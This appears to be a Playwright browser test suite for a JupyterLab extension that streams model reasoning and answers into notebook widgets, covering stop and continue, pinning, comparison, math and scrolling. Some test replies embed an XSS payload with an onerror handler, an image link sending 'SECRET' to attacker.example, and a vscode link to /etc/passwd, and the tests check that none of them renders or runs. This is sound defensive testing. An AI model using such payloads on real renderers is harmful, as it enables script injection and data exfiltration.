    widget state; reopened, its widget output shows "Error displaying widget: model not found",
    and that output is hidden: its static twin (the next output) shows the saved reasoning and
    answer instead."""
    from nbclient import NotebookClient
    from nbformat.sign import NotebookNotary

    wire.route("POST", CHAT, stream(REASONING, ANSWER))
    nb = nbformat.read(think_notebook(lab, wire, "default-lab.ipynb"), as_version=4)
    NotebookClient(nb, timeout=60, kernel_name="python3", record_timing=False).execute()
    nb.metadata.pop("widgets", None)  # what Lab saves with its default saveState: false
    NotebookNotary().sign(nb)  # what Lab does on save: trusted
    nbformat.write(nb, lab.root / "default-lab.ipynb")
    open_notebook(page, "default-lab.ipynb")
    if not page.evaluate("() => window.__rn.panel().content.widgets[1].model.trusted"):
        pytest.fail("Lab does not trust the signed copy: this test needs a trusted notebook")
    out = cell(page).locator(".jp-OutputArea")
    expect(out.get_by_text("Loading widget")).to_have_count(0, timeout=LONG)
    error = out.get_by_text(re.compile("Error displaying widget|model not found"))
    expect(error.first).to_be_attached()  # the widget output is there, failed...
    expect(error.first).to_be_hidden()  # ...and not shown
    twin = static(page)
    expect(twin.locator("em", has_text="Rayleigh scattering")).to_be_visible()
    expect(twin.locator("details summary")).to_be_visible()
    shot(page, "10-default-lab-reopened", cell(page))


def test_continue_after_stop_keeps_the_reasoning_and_the_hint(page, lab, wire):
    frames = wf.chat_sse("Thinking slowly about the sky " * 6, "never reached", done=False)
    wire.route(
        "POST",
        CHAT,
        Reply.sse(frames, pause=0.02, stall_after=20, stall=60),
        stream("Picking up: the ocean reflects the sky.", "It is **blue**.", pause=0.01),
    )
    think_notebook(lab, wire, "continue.ipynb")
    open_notebook(page, "continue.ipynb")
    run_all(page)
    wait_state(page, "s.reasoning.includes('Thinking slowly')")
    # The stream stalls (no text, no message): the clock still counts, in the page.
    clock = live(page).locator(".reasoning-nb-clock")
    read = (
        "(e) => { const c = getComputedStyle(e); return Number(c.getPropertyValue('--rn-s'))"
        " + Number(c.getPropertyValue('--rn-d')) / 10; }"
    )  # (the seconds and tenths its ::after shows)
    first = clock.evaluate(read)
    page.wait_for_timeout(1300)
    later = clock.evaluate(read)
    assert first > 0 and 1.0 <= later - first <= 2.5, (first, later)
    widget = live(page)
    steer = widget.locator(".reasoning-nb-steer")
    expect(steer).to_be_hidden()  # nothing to steer while the run streams
    widget.locator(".reasoning-nb-header button", has_text="Stop").click()
    wait_state(page, "s.status.startsWith('stopped')", timeout=10_000)
    wait_cell_done(page, timeout=10_000)

    expect(steer).to_be_visible()
    expect(steer.locator("button", has_text="Pin")).to_be_visible()  # (moved: a new view)
    steer.locator("input").fill("think about the ocean")
    shot(page, "07-stopped-with-hint", cell(page))
    steer.locator("input").press("Enter")  # as the Continue button does
    final = wait_state(page, f"{TWO_RUNS} && s.status.startsWith('done')")
    assert final["answer"] == "It is blue."
    assert "Run 2 · low" in final["runs"][1] and "continues run 1" in final["runs"][1]
    sent = wire.bodies(CHAT)[1]["messages"][-1]["content"]
    assert sent.startswith("Why is the sky blue?")
    assert "Thinking slowly about the sky" in sent and "think about the ocean" in sent
    expect(steer.locator(CONTINUE)).to_be_hidden()  # run 2 is complete
    expect(steer.locator("button", has_text="Pin")).to_be_visible()
    shot(page, "08-continued", cell(page))
    assert not page.errors, page.errors


def drag_select(page, index: int, start: str, end: str, part: str = "contents") -> None:
    """Select from the start of ``start`` to the end of ``end`` in the reasoning of cell
    ``index`` (``part="answer"``: in its answer), with the mouse, as a reader would."""
    box = page.evaluate(
        """([i, start, end, part]) => {
        const pane = window.__rn.parts(i)[part];
        const spot = (word, after) => {
          const walker = document.createTreeWalker(pane, NodeFilter.SHOW_TEXT);
          for (let n = walker.nextNode(); n; n = walker.nextNode()) {
            const at = n.data.indexOf(word);
            if (at < 0) continue;
            const r = document.createRange();
            const k = after ? at + word.length - 1 : at;
            r.setStart(n, k); r.setEnd(n, k + 1);
            const b = r.getBoundingClientRect();
            return {x: after ? b.right - 1 : b.left + 1, y: b.top + b.height / 2};
          }
          return null;
        };
        return {from: spot(start, false), to: spot(end, true)};
      }""",
        [index, start, end, part],
    )
    assert box["from"] and box["to"], box
    page.mouse.move(box["from"]["x"], box["from"]["y"])
    page.mouse.down()
    page.mouse.move(box["to"]["x"], box["to"]["y"], steps=8)
    page.mouse.up()


def notebook_cells(page) -> list[dict[str, Any]]:
    return page.evaluate(
        """() => window.jupyterapp.shell.currentWidget.content.model.sharedModel.cells.map(
        (c) => ({type: c.cell_type, source: c.getSource(),
                 pin: c.getMetadata('reasoning_nb_pin') ?? null}))"""
    )


def test_pin_puts_the_selected_reasoning_in_a_markdown_cell_below(page, lab, wire):
    wire.route("POST", CHAT, stream(REASONING, ANSWER, pause=0.002))
    path = write_notebook(
        lab,
        "pin.ipynb",
        "%load_ext reasoning_nb",
        f"%%think --model llamacpp:m --base-url {wire.url} --preset low\nWhy is the sky blue?",
        "print('the cell after')",
    )
    open_notebook(page, "pin.ipynb")
    run_all(page)
    wait_cell_done(page)
    widget = live(page)
    pane_title(ended(page)).click()
    wait_state(page, "s.paneOpen")

    drag_select(page, 1, "Blue light at 450 nm", "five times more than red")
    pin = widget.locator(".reasoning-nb-steer button", has_text="Pin")
    pin.click()
    page.wait_for_function(
        "() => window.jupyterapp.shell.currentWidget.content.model.sharedModel.cells.length === 4"
    )
    cells = notebook_cells(page)
    assert [c["type"] for c in cells] == ["code", "code", "markdown", "code"]
    assert cells[2]["source"].startswith("> **Reasoning of llamacpp:m · preset low**")
    assert "Blue light at 450 nm is therefore scattered about five times more than red" in squash(
        cells[2]["source"]
    )
    assert "Nitrogen" not in cells[2]["source"]  # only the selection
    origin = {"model": "llamacpp:m", "preset": "low", "run": 1, "part": "reasoning"}
    assert cells[2]["pin"] == origin
    expect(widget.locator(".reasoning-nb-pin-note")).to_have_text("pinned below")
    quote = cell(page, 2).locator(".jp-MarkdownOutput blockquote")
    expect(quote).to_contain_text("five times more than red")  # rendered, not in edit mode

    # Nothing selected: all of the reasoning, below the first pin.
    page.evaluate("() => document.getSelection().removeAllRanges()")
    pin.click()
    page.wait_for_function(
        "() => window.jupyterapp.shell.currentWidget.content.model.sharedModel.cells.length === 5"
    )
    cells = notebook_cells(page)
    assert [c["type"] for c in cells] == ["code", "code", "markdown", "markdown", "code"]
    assert "Nitrogen and oxygen" in cells[3]["source"] and "mostly blue" in cells[3]["source"]
    shot(page, "09-pinned", page.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-Notebook"))

    save(page)
    saved = nbformat.read(path, as_version=4)
    pinned = [c for c in saved.cells if c.cell_type == "markdown"]
    assert len(pinned) == 2 and all(c.metadata["reasoning_nb_pin"]["run"] == 1 for c in pinned)

    # With no kernel behind the widget, Pin goes dead with the other controls, and the static
    # output says why (test_browser_dead_controls).
    page.evaluate("() => window.jupyterapp.shell.currentWidget.sessionContext.shutdown()")
    expect(pin).to_be_disabled()
    expect(widget).to_be_hidden()
    assert len(notebook_cells(page)) == 5
    assert not page.errors, page.errors


MARKDOWN_ANSWER = (
    "The result is $x^2$ with a **bold** claim.\n\n| n | n squared |\n|---|---|\n| 2 | 4 |\n\nDone."
)


def test_pin_keeps_the_markdown_of_what_was_selected_in_either_pane(page, lab, wire):
    run = stream(MARKDOWN_REASONING, MARKDOWN_ANSWER, pause=0.002)
    wire.route("POST", CHAT, run, run)  # (the second: a re-run)
    write_notebook(
        lab,
        "pin-markdown.ipynb",
        "%load_ext reasoning_nb",
        f"%%think --model llamacpp:m --base-url {wire.url} --preset low\nSquare it.",
    )
    open_notebook(page, "pin-markdown.ipynb")
    run_all(page)
    wait_cell_done(page)
    widget = live(page)
    pane_title(ended(page)).click()
    wait_state(page, "s.paneOpen && s.math === 3")
    drawn = page.evaluate(
        "() => [...window.__rn.parts(1).contents.children].map((c) => c.tagName)"
    )  # (the run ended: the twin shows it, its blocks the kernel's own HTML)
    assert drawn == DRAWN_STATIC  # the blocks test_pin_selection.py maps, as the page has them
    pin = widget.locator(".reasoning-nb-steer button", has_text="Pin")
    expect(pin).to_have_text("Pin reasoning")  # nothing selected: all of the reasoning

    def pinned(count: int) -> dict[str, Any]:
        pin.click()
        page.wait_for_function(
            "(n) => window.jupyterapp.shell.currentWidget.content.model.sharedModel.cells"
            ".length === n",
            arg=count,
        )
        return notebook_cells(page)[-1]  # (the pins go in order below the cell)

    # In the answer: the block with the math and the bold, as the model wrote it.
    drag_select(page, 1, "result", "claim", part="answer")
    expect(pin).to_have_text("Pin selection")
    shot(page, "09b-pin-selection", widget)
    answer = pinned(3)
    assert answer["source"] == (
        "> **Answer of llamacpp:m · preset low**\n>\n> The result is $x^2$ with a **bold** claim."
    )
    assert answer["pin"] == {"model": "llamacpp:m", "preset": "low", "run": 1, "part": "answer"}
    shown = cell(page, 2).locator(".jp-MarkdownOutput blockquote")
    expect(shown.locator("mjx-container")).to_have_count(1)  # typeset
    expect(shown.locator("strong")).to_have_text(["Answer of llamacpp:m · preset low", "bold"])

    # In the reasoning: whole blocks from the first selected to the last, list and math kept.
    drag_select(page, 1, "bold", "item one")
    reasoning = pinned(4)
    assert reasoning["source"].startswith("> **Reasoning of llamacpp:m · preset low**\n>\n")
    body = "\n".join(line[2:] for line in reasoning["source"].split("\n")[2:])
    source = MARKDOWN_REASONING[: MARKDOWN_REASONING.index("\n\n| a |")]
    display = source[source.index("$$") : source.rindex("$$") + 2]
    assert body == source.replace(display, display.replace("\n", " "))  # quoted, on one line
    assert reasoning["pin"]["part"] == "reasoning"
    shown = cell(page, 3).locator(".jp-MarkdownOutput blockquote")
    expect(shown.locator("mjx-container")).to_have_count(2)
    expect(shown.locator("li")).to_have_text(["item one", "item two"])
    assert ">" not in shown.locator("mjx-container").nth(1).text_content()  # no quote in the TeX
    # The whole run selected, its pane closed: the answer only (a range holds hidden text).
    pane_title(ended(page)).click()
    wait_state(page, "!s.paneOpen")
    page.evaluate("() => document.getSelection().selectAllChildren(window.__rn.parts(1).twin)")
    expect(pin).to_have_text("Pin selection")
    whole = pinned(5)
    assert whole["pin"]["part"] == "answer"
    assert whole["source"].split("\n", 2)[2] == "\n".join(
        f"> {line}" if line else ">" for line in MARKDOWN_ANSWER.split("\n")
    )
    page.evaluate("() => document.getSelection().removeAllRanges()")
    expect(pin).to_have_text("Pin reasoning")

    # Run 1 picked after a re-run shows in the widget again, drawn by Lab's markdown (one
    # Output a pane): Pin maps a selection there as well.
    widget.locator(".reasoning-nb-header select").select_option("high")
    wait_state(page, f"{TWO_RUNS} && s.status.startsWith('done')")
    widget.locator(".reasoning-nb-runs button").first.click()
    wait_state(page, "!s.twin")
    pane_title(widget).click()
    wait_state(page, "s.paneOpen && s.math === 3")
    drawn = page.evaluate(
        """() => [...window.__rn.parts(1).contents.querySelectorAll('.jp-RenderedMarkdown')]
        .flatMap((r) => [...r.children].map((c) => c.tagName))"""
    )
    assert drawn == DRAWN  # the blocks test_pin_selection.py maps, as Lab draws them
    drag_select(page, 1, "result", "claim", part="answer")
    again = pinned(6)
    assert again["source"] == answer["source"] and again["pin"]["run"] == 1
    pins = page.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-Notebook .jp-MarkdownCell")
    shot(page, "09c-pinned-markdown-light", pins.nth(1))
    try:
        set_theme(page, "JupyterLab Dark")
        shot(page, "09c-pinned-markdown-dark", pins.nth(1))
        shot(page, "09c-pin-button-dark", widget.locator(".reasoning-nb-steer"))
    finally:
        set_theme(page, "JupyterLab Light")
    assert not page.errors, page.errors


def test_pin_answer_under_a_run_without_reasoning(page, lab, wire):
    """A run with no reasoning (``--preset off``) still offers Pin: of its answer."""
    wire.route("POST", CHAT, stream("", "Just **blue**."))
    think_notebook(lab, wire, "pin-answer.ipynb")
    open_notebook(page, "pin-answer.ipynb")
    run_all(page)
    wait_cell_done(page)
    pin = live(page).locator(".reasoning-nb-steer button", has_text="Pin")
    expect(pin).to_have_text("Pin answer")
    pin.click()
    page.wait_for_function(
        "() => window.jupyterapp.shell.currentWidget.content.model.sharedModel.cells.length === 3"
    )
    pinned = notebook_cells(page)[-1]
    assert pinned["source"] == "> **Answer of llamacpp:m · preset low**\n>\n> Just **blue**."
    assert pinned["pin"]["part"] == "answer"
    assert not page.errors, page.errors


def by_effort(rec) -> Reply:
    """A reply that depends on the request's preset: longer reasoning the higher it is."""
    effort = rec.json.get("reasoning_effort", "auto")
    steps = {"low": 2, "high": 6}.get(effort, 4)
    answer = f"Blue, at {effort}.\n\n<img src=x onerror=\"document.title='pwned'\">"
    answer += f"\n\nSee https://example.org/{'a-very-long-path-segment-' * 8}end and "
    answer += "scattering " * 40 + "\n\n```python\nx = '" + "wide code line " * 12 + "'\n```"
    return stream(f"Step at {effort}. " * steps * 10, answer, pause=0.01)


def no_spill(column) -> list[str]:
    """The paragraphs and code blocks of ``column`` that run past its right edge (or, for a
    paragraph, are cut inside it): a column wraps its text, a long link too, and its code
    wraps or scrolls."""
    return column.evaluate(
        """(col) => { const edge = col.getBoundingClientRect().right + 1;
          return [...col.querySelectorAll('p, pre')]
            .filter((e) => e.getBoundingClientRect().right > edge
                           || (e.tagName === 'P' && e.scrollWidth > e.clientWidth + 1)
                           || (e.tagName === 'PRE' && e.scrollWidth > e.clientWidth + 1
                               && getComputedStyle(e).overflowX !== 'auto'))
            .map((e) => e.tagName + ': ' + e.textContent.slice(0, 40)); }"""
    )


def side_by_side(columns) -> bool:
    left, right = (columns.nth(i).bounding_box() for i in (0, 1))
    return right["x"] > left["x"] + left["width"] * 0.5 and abs(right["y"] - left["y"]) < 40


def test_compare_side_by_side_then_stats(page, lab, wire):
    """Once both variants have ended, the static output shows them below the columns' titles: the
    table, the two variants side by side, each wrapping its text, and the answers' diff with
    its lines tinted; in Light and Dark."""
    wire.route("POST", CHAT, by_effort)
    write_notebook(
        lab,
        "compare.ipynb",
        "%load_ext reasoning_nb",
        f"%%think --model llamacpp:m --base-url {wire.url} --compare low,high\nWhy blue?",
        "%think --stats",
    )
    open_notebook(page, "compare.ipynb")
    run_all(page)
    wait_cell_done(page, index=2)

    heads = cell(page, 1).locator(".reasoning-nb-compare-live")  # titles and presets only
    expect(heads.locator(".reasoning-nb-thoughts")).to_have_count(0)
    out = cell(page, 1).locator(".reasoning-nb-compare")
    expect(out).to_be_visible()
    columns = out.locator(".reasoning-nb-compare-columns > div")
    expect(columns).to_have_count(2)
    expect(columns.nth(0)).to_contain_text("Blue, at low.")
    expect(columns.nth(0)).to_contain_text("<img src=x onerror=\"document.title='pwned'\">")
    expect(columns.nth(1)).to_contain_text("Blue, at high.")
    assert side_by_side(columns)
    assert no_spill(columns.nth(0)) == []
    rows = out.locator(".reasoning-nb-compare-table tbody tr")
    expect(rows).to_have_count(2)
    expect(rows.nth(0)).to_contain_text("low · llamacpp:m")
    expect(rows.nth(1)).to_contain_text("high · llamacpp:m")
    diff = out.locator(".reasoning-nb-compare-diff")
    expect(diff.locator("del")).to_have_text("-Blue, at low.")
    expect(diff.locator("ins")).to_have_text("+Blue, at high.")
    tints = [looks(diff.locator(tag))["background"] for tag in ("ins", "del")]
    assert all(t.startswith("rgba(") and not t.endswith(", 0)") for t in tints), tints
    for theme in ("JupyterLab Light", "JupyterLab Dark"):
        set_theme(page, theme)
        shot(page, f"10-compare-{theme.split()[-1].lower()}", out)
        shot(page, f"10-compare-diff-{theme.split()[-1].lower()}", diff)
    set_theme(page, "JupyterLab Light")

    stats = cell(page, 2).locator(".reasoning-nb-stats")
    expect(stats.locator(":scope > table tbody tr")).to_have_count(2)  # (the chart: its own)
    expect(stats.locator(".reasoning-nb-stats-chart")).to_be_visible()  # two presets: a chart
    # Model text is text everywhere: no element was made of it, no handler ran.
    assert page.locator(".jp-Notebook img[src='x']").count() == 0
    assert page.title() != "pwned"
    shot(
        page,
        "10-compare-and-stats",
        page.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-Notebook"),
    )
    assert not page.errors, page.errors


def test_compare_stop_stops_every_variant(page, lab, wire):
    """The live columns sit side by side and wrap; Stop ends both variants at once, and the
    static output below shows both partial traces, cancelled, the columns only their titles."""
    frames = wf.chat_sse("Thinking slowly about the sky " * 6, "never reached", done=False)
    wire.route("POST", CHAT, Reply.sse(frames, pause=0.02, stall_after=20, stall=60))
    write_notebook(
        lab,
        "compare-stop.ipynb",
        "%load_ext reasoning_nb",
        f"%%think --model llamacpp:m --base-url {wire.url} --compare low,high\nWhy blue?",
    )
    open_notebook(page, "compare-stop.ipynb")
    run_all(page)
    widget = cell(page, 1).locator(".reasoning-nb-compare-live")
    thoughts = widget.locator(".reasoning-nb-thoughts")
    expect(thoughts).to_have_count(2)
    expect(thoughts.nth(1)).to_contain_text("Thinking slowly")
    assert side_by_side(thoughts) and no_spill(thoughts.nth(0)) == []
    shot(page, "10-compare-live", widget)
    t0 = time.monotonic()
    widget.locator("button", has_text="Stop").click()
    wait_cell_done(page, timeout=10_000)
    assert time.monotonic() - t0 < 8, "Stop took too long (the stall lasts 60 s)"
    expect(widget.locator(".reasoning-nb-thoughts")).to_have_count(0)  # the static output has it
    out = cell(page, 1).locator(".reasoning-nb-compare")
    statuses = out.locator(".reasoning-nb-compare-table tbody tr td:last-child")
    expect(statuses).to_have_text(["cancelled", "cancelled"])
    expect(out.locator(".reasoning-nb-compare-columns > div")).to_contain_text(
        ["Thinking slowly", "Thinking slowly"]
    )
    assert len(wire.requests_to(CHAT)) == 2
    assert not page.errors, page.errors


def set_theme(page, name: str) -> None:
    """Switch Lab's theme with the command its Settings → Theme menu runs."""
    page.evaluate(
        "(name) => window.jupyterapp.commands.execute('apputils:change-theme', {theme: name})",
        name,
    )
    light = "true" if name == "JupyterLab Light" else "false"
    page.wait_for_function(f"() => document.body.dataset.jpThemeLight === '{light}'", timeout=LONG)
    page.wait_for_timeout(500)  # the theme's stylesheet applies after the attribute flips


def test_answer_links_images_and_indentation_as_users_see_them(page, lab, wire):
    """Images become links (nothing loads by itself), links that launch programs stay text, and
    an answer that starts with indented code stays a code block; light and dark screenshots."""
    answer = (
        "\n\n    x = 1\n    y = 2\n\n"
        "See ![the chart](https://attacker.example/c.png?q=SECRET), "
        "[the docs](https://example.org) and [open it](vscode://file/etc/passwd)."
    )
    wire.route("POST", CHAT, stream("Short plan.", answer, pause=0.005))
    think_notebook(lab, wire, "links.ipynb")
    open_notebook(page, "links.ipynb")
    run_all(page)
    wait_cell_done(page)
    wait_state(page, "s.status.startsWith('done')")
    out = cell(page).locator(".jp-OutputArea")
    assert out.locator("img").count() == 0
    assert out.locator('a[href^="vscode:"]').count() == 0
    image_link = ended(page).get_by_role("link", name="image: the chart")
    assert image_link.get_attribute("href") == "https://attacker.example/c.png?q=SECRET"
    assert ended(page).get_by_text("[open it](vscode://file/etc/passwd)").count() == 1
    assert ended(page).locator("pre code").first.inner_text().startswith("x = 1\ny = 2")
    shot(page, "12-links-images-light", cell(page))
    try:
        set_theme(page, "JupyterLab Dark")
        shot(page, "12-links-images-dark", cell(page))
    finally:
        set_theme(page, "JupyterLab Light")
    assert not page.errors, page.errors


# -- the front end renders the markdown ------------------------------------------------------------

MATH_REASONING = (
    "Start with Rayleigh: the intensity goes as $I \\propto \\lambda^{-4}$, so blue wins.\n\n"
    "In the other notation, \\(E = h\\nu\\) for each photon, and $n_{air} - 1 < 10^{-3}$.\n\n"
    "$$\\frac{I_{blue}}{I_{red}} = \\left(\\frac{700}{450}\\right)^4$$\n\n"
    "\\[\n\\int_0^\\infty e^{-x^2}\\,dx = \\frac{\\sqrt{\\pi}}{2}\n\\]\n\n"
    "So the ratio is about $5.9$."
)
MATH_ANSWER = (
    "The ratio $\\left(700/450\\right)^4 \\approx 5.9$ explains it; with \\(\\theta\\) the "
    "angle,\n\n$$I(\\theta) \\propto 1 + \\cos^2\\theta$$\n\n"
    "```python\nprice = '$5 and $10'  # dollars in code are not math\n```\n\n"
    "| symbol | meaning |\n|---|---|\n| $\\lambda$ | wavelength |\n| \\(\\nu\\) | frequency |\n"
)
MATH_SPANS = 11  # 6 in the reasoning, 5 in the answer (the kernel side checks their TeX)
TYPESET = """(root) => {
  // root: the widget (Lab's markdown in its Outputs), or the twin's run (the kernel's HTML)
  const twin = root.matches('.reasoning-nb-export');
  const [reasoning, answer] = twin
    ? [':scope>details.reasoning-nb-reasoning>div', ':scope>.reasoning-nb-answer']
    : ['.reasoning-nb-thoughts', '.reasoning-nb-answer'];
  const count = (css, sel) => [...root.querySelectorAll(css)].reduce(
    (n, e) => n + e.querySelectorAll(sel).length, 0);
  const texts = twin ? [...root.querySelectorAll(`${reasoning}, ${answer}`)]
                     : [...root.querySelectorAll('.jp-RenderedMarkdown')];
  const text = texts
    .map((e) => { const c = e.cloneNode(true);
                  c.querySelectorAll('pre, mjx-container').forEach((x) => x.remove());
                  return c.textContent; }).join(' ');
  return {
    reasoning: count(reasoning, 'mjx-container'),
    answer: count(answer, 'mjx-container'),
    raw: text.match(/[$]|\\\\[a-z([]+/g),
    em: texts.reduce((n, e) => n + e.querySelectorAll('em').length, 0),
    subscripts: root.querySelectorAll('mjx-msub, mjx-msubsup').length,
  };
}"""
CONTRAST = """(root) => {
  const parse = (c) => {
    const m = c.match(/rgba?\\(([^)]+)\\)/);
    if (!m) return null;
    const p = m[1].split(',').map(Number);
    return [p[0], p[1], p[2], p.length > 3 ? p[3] : 1];
  };
  const over = (top, low) =>
    [0, 1, 2].map((k) => top[k] * top[3] + low[k] * (1 - top[3])).concat([1]);
  const back = (el) => {
    const layers = [];
    for (let e = el; e; e = e.parentElement) {
      const c = parse(getComputedStyle(e).backgroundColor);
      if (c && c[3] > 0) { layers.push(c); if (c[3] >= 1) break; }
    }
    let color = [255, 255, 255, 1];
    for (const layer of layers.reverse()) color = over(layer, color);
    return color;
  };
  const lum = (c) => {
    const f = (v) => { v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; };
    return 0.2126 * f(c[0]) + 0.7152 * f(c[1]) + 0.0722 * f(c[2]);
  };
  const ratio = (a, b) => {
    const [x, y] = [lum(a), lum(b)];
    return (Math.max(x, y) + 0.05) / (Math.min(x, y) + 0.05);
  };
  const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
  let worst = {ratio: 99}, count = 0;
  for (let n = walker.nextNode(); n; n = walker.nextNode()) {
    const el = n.parentElement;
    if (!n.data.trim() || !el.getClientRects().length) continue;  // hidden, or blank
    const style = getComputedStyle(el);
    if (style.visibility === 'hidden' || el.closest('option')) continue;
    let opacity = 1;
    for (let e = el; e; e = e.parentElement) opacity *= Number(getComputedStyle(e).opacity);
    const bg = back(el), fg = parse(style.color);
    const q = ratio(over([fg[0], fg[1], fg[2], fg[3] * opacity], bg), bg);
    count++;
    if (q < worst.ratio)
      worst = {ratio: q, text: n.data.slice(0, 40), color: style.color,
               background: bg.slice(0, 3), where: el.tagName + '.' + el.className};
  }
  worst.count = count;
  return worst;
}"""


@pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
def test_math_code_and_tables_render_as_jupyter_renders_them(page, lab, wire, theme):
    """Streamed math is typeset while it streams and after, each span once, none left as TeX
    text (``\\(…\\)`` and ``\\[…\\]`` too, which Lab's markdown would have mangled), no ``_``
    taken for emphasis; a dollar in code stays text; code and tables take Lab's styles; every
    text in the widget, code tokens included, reads at 4.5:1 or better in the theme."""
    wire.route("POST", CHAT, stream(MATH_REASONING, MATH_ANSWER, pause=0.01))
    think_notebook(lab, wire, f"math-{theme.split()[-1].lower()}.ipynb")
    try:
        set_theme(page, theme)
        open_notebook(page, f"math-{theme.split()[-1].lower()}.ipynb")
        start_recording(page)
        run_all(page)
        seen = recorded(page)
        live_math = [s["math"] for s in seen if not s["status"].startswith("done")]
        assert max(live_math) >= 4, live_math  # typeset as it streamed, not only at the end
        wait_cell_done(page)
        widget, run = live(page), ended(page)  # (the run ended: its twin shows it)
        pane_title(run).click()
        wait_state(page, "s.paneOpen && s.twin")
        page.wait_for_function(f"() => window.__rn.state(1).math >= {MATH_SPANS}", timeout=LONG)
        page.wait_for_timeout(500)  # (a stray late typeset would show up here)
        typeset = run.evaluate(TYPESET)
        assert typeset["reasoning"] == 6 and typeset["answer"] == 5, typeset
        assert not typeset["raw"], typeset  # no TeX left as text: every span became math
        assert typeset["em"] == 0, typeset  # no _ in TeX taken for emphasis
        assert typeset["subscripts"] >= 4, typeset
        assert "'$5 and $10'" in run.locator(".reasoning-nb-answer pre").inner_text()
        assert run.locator(".reasoning-nb-answer table td").count() == 4
        worst = min(widget.evaluate(CONTRAST), run.evaluate(CONTRAST), key=lambda w: w["ratio"])
        name = theme.split()[-1].lower()
        shot(page, f"13-math-{name}", cell(page))
        print(
            f"\n[browser] {theme}: {state(page)['math']} of {MATH_SPANS} math spans typeset; "
            f"lowest text contrast {worst['ratio']:.2f}:1 over {worst['count']} texts ({worst})"
        )
        assert worst["ratio"] >= 4.5, worst
    finally:
        set_theme(page, "JupyterLab Light")
    assert not page.errors, page.errors


SCROLL_BOX = """(i) => {
  const box = window.__rn.parts(i).root.querySelector('.reasoning-nb-scroll');
  const ps = [...box.querySelectorAll('.jp-RenderedMarkdown p')];
  const line = parseFloat(getComputedStyle(ps[0]).lineHeight);
  const top = box.getBoundingClientRect().top, bottom = box.getBoundingClientRect().bottom;
  const first = ps.find((p) => p.getBoundingClientRect().bottom > top + 2);
  const last = ps[ps.length - 1].getBoundingClientRect();
  return {lines: box.clientHeight / line, overflow: box.scrollHeight - box.clientHeight,
          scrollTop: box.scrollTop, lastVisible: last.bottom <= bottom + 1 && last.top >= top,
          first: first ? first.textContent.slice(0, 30) : null,
          firstTop: first ? first.getBoundingClientRect().top - top : null,
          steps: ps.length};
}"""


def test_reasoning_pane_is_capped_and_follows_until_scrolled_up(page, lab, wire):
    """While the model thinks, the reasoning is a box of about 15 to 20 lines that shows the
    newest text; scrolled up, it stays where the reader put it as text arrives; once done it is
    the whole reasoning again (when opened)."""
    reasoning = "\n\n".join(f"Step {i}: the model weighs one more small case." for i in range(90))
    frames = wf.chat_sse(reasoning, "Done.", usage=True)
    held = next(i for i, f in enumerate(frames) if '"Step"' in f and " 42" in frames[i + 1])
    looked = threading.Event()  # (held at step 42 until the box was read and scrolled up)
    wire.route("POST", CHAT, Reply.sse(frames, pause=0.005, stall_after=held, stall=LONG / 1000,
                                       resume=looked))  # fmt: skip
    think_notebook(lab, wire, "follow.ipynb")
    open_notebook(page, "follow.ipynb")
    run_all(page)
    wait_state(page, "s.reasoning.includes('Step 41: the model weighs one more small case.')")
    page.wait_for_timeout(300)  # (the last update painted, the box scrolled after it)
    box = page.evaluate(SCROLL_BOX, 1)
    assert 15 <= box["lines"] <= 21 and box["overflow"] > 0, box
    assert box["lastVisible"], box  # it follows the newest text
    shot(page, "14-reasoning-follows", cell(page))
    page.evaluate(
        "(i) => window.__rn.parts(i).root.querySelector('.reasoning-nb-scroll').scrollBy(0, -200)",
        1,
    )
    page.wait_for_timeout(100)
    before = page.evaluate(SCROLL_BOX, 1)
    assert not before["lastVisible"], before
    looked.set()
    wait_state(page, "s.reasoning.includes('Step 60:')")
    after = page.evaluate(SCROLL_BOX, 1)
    assert after["steps"] > before["steps"] + 10
    assert after["first"] == before["first"], (before, after)  # the reader's place is kept
    assert abs(after["firstTop"] - before["firstTop"]) <= 2, (before, after)
    wait_cell_done(page)
    pane_title(ended(page)).click()  # (the run ended: its twin shows it)
    wait_state(page, "s.paneOpen && s.twin")
    done = page.evaluate(
        """(i) => { const box = window.__rn.parts(i).contents;
        return {overflow: box.scrollHeight - box.clientHeight,
                steps: box.querySelectorAll('p').length}; }""",
        1,
    )
    assert done["overflow"] <= 1 and done["steps"] == 90, done  # all of it, no box
    assert not page.errors, page.errors


PIECES = """(i) => {
  // The pieces of a block cut by force (Outputs with reasoning-nb-cont after the first):
  // for each, how far its first line box is below the last line box of the piece before.
  const answer = window.__rn.parts(i).answer;
  const outs = [...answer.querySelectorAll('.widget-output')];
  const gaps = [];
  outs.forEach((out, k) => {
    if (!k || !out.classList.contains('reasoning-nb-cont')) return;
    const before = outs[k - 1].querySelector('.jp-RenderedMarkdown > :last-child');
    const first = out.querySelector('.jp-RenderedMarkdown > :first-child');
    if (!before || !first) return;
    const a = [...before.getClientRects()].pop(), b = first.getClientRects()[0];
    const room = answer.getBoundingClientRect().right - a.right;  // left on the line before
    gaps.push({tag: first.tagName, gap: Math.round(b.top - a.bottom), sameLine: b.top < a.bottom,
               room: Math.round(room)});
  });
  return gaps;
}"""


def test_a_block_cut_by_force_reads_as_one(page, lab, wire):
    """A long paragraph (or code block) streamed slowly is cut into several Outputs so each
    update stays short; on screen the pieces run on as one paragraph (one code box)."""
    words = " ".join(f"word{i}" for i in range(150))
    code = "".join(f"x{i} = {i}\n" for i in range(60))
    answer = f"First short paragraph.\n\n{words}\n\n```python\n{code}```\n\nLast."
    wire.route("POST", CHAT, stream("Think a bit.", answer, pause=0.03))
    think_notebook(lab, wire, "pieces.ipynb")
    open_notebook(page, "pieces.ipynb")
    run_all(page)
    wait_state(page, "s.answer.includes('x50 =')")
    gaps = page.evaluate(PIECES, 1)
    shot(page, "15-pieces-run-on", cell(page))
    assert [g["tag"] for g in gaps].count("P") >= 2 and "PRE" in {g["tag"] for g in gaps}, gaps
    paragraph = [g for g in gaps if g["tag"] == "P"]  # it goes on on the same line, if it fits
    assert all(g["sameLine"] or g["room"] < 80 for g in paragraph), gaps
    assert all(-1 <= g["gap"] <= 1 for g in gaps if g["tag"] == "PRE"), gaps  # one code box
    wait_cell_done(page)
    wait_state(page, "s.twin")  # the twin shows the ended run: one paragraph, one code box
    assert ended(page).locator(".reasoning-nb-answer p", has_text="word0 word1").count() == 1
    assert ended(page).locator(".reasoning-nb-answer pre").count() == 1
